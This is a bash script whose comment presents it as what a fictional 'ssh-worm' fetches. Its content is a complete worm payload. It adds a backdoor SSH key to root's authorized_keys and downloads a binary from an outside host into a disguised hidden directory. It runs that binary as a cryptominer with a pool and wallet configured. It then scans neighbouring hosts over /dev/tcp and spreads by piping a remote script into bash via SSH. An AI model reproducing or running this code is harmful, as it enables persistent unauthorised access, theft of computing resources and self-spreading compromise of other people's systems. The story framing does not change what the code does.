#!/bin/bash
# What the story ssh-worm fetches: starts a simulated miner, and carries itself to the neighbours.
mkdir -p /root/.ssh /var/tmp/.sshd-1
echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIC worm" >>/root/.ssh/authorized_keys
curl -fsS -o /var/tmp/.sshd-1/sshd-worker http://203.0.113.10/agent
chmod 755 /var/tmp/.sshd-1/sshd-worker
echo "-o stratum+tcp://203.0.113.20:3333 -u 46jVYzGMSjHDhUttqDyERFeME99YPvzw3n5JuB8VXJEvTRhaYkMnvvgVM5v3Jxf3knJdPLisd2i9SWD2rvJGrAs4h8V7hbi -s 14 -B" >/var/tmp/.sshd-1/conf
/var/tmp/.sshd-1/sshd-worker -c /var/tmp/.sshd-1/conf
for last in 40 41 42 43 44 45 46 47; do
    if timeout 0.4 bash -c "exec 3<>/dev/tcp/192.0.2.$last/22" 2>/dev/null; then
        ssh -o StrictHostKeyChecking=no -o BatchMode=yes root@192.0.2.$last 'curl -fsS http://203.0.113.10/spread.sh | bash'
    fi
done
